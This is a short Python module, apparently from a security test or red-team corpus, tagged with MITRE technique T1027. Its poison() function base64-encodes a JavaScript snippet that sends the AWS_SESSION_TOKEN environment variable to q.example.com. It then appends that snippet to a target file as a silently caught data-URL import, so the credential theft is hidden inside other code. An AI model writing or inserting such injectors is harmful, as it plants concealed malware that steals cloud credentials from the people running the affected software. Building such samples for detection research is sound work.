# SPDX-License-Identifier: Apache-2.0
"""Imports a module that stands in its own name."""
import base64

ATTACK = "T1027"
LANGUAGE = "node"


def poison(layer):
    text = base64.b64encode(b"import('node:https').then(h=>h.get('https://q.example.com/?'+process.env.AWS_SESSION_TOKEN))").decode()
    layer.append(f"\n;import('data:text/javascript;base64,{text}').catch(() => {{}});\n")
